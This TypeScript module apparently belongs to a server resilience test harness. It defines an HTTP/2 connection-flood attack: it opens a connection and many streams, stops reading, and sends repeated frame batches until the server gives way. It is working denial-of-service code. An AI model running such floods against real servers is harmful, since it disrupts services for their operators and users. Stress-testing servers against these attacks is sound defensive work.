import { clientPreface, headers, settings } from "../wire/frames.js";
import { methodPath, plainRequest } from "../wire/header-blocks.js";
import type { Attack } from "./attacker.js";
import { batchOf, type Flood, type FloodName, floods } from "./floods.js";

/** Streams that are open while windows go up and down. */
const churnedStreams = 100;

/** One connection that is flooded for as long as the server bears it. */
export function clientFlood(name: FloodName): Attack {
  const flood: Flood = floods[name];
  const streamId = 1;
  const opening = [clientPreface, settings()];
  if (flood.onStream) opening.push(openRequest(streamId));
  if (name === "window-churn") for (let i = 0; i < churnedStreams; i++) opening.push(openRequest(2 * i + 1));
  return async (attacker) => {
    const connection = await attacker.open();
    if (connection === undefined) throw new Error("the attacker could not connect");
    if (flood.deaf) connection.stopReading();
    const { bytes, frames } = batchOf(flood, streamId);
    connection.write(Buffer.concat([...opening, flood.opening(streamId)]));
    await attacker.flood(connection, () => bytes, frames);
  };
}

/** Bidi: the call lives until the client has nothing more to say. */
function openRequest(streamId: number): Buffer {
  return headers(streamId, plainRequest(methodPath.bidi));
}
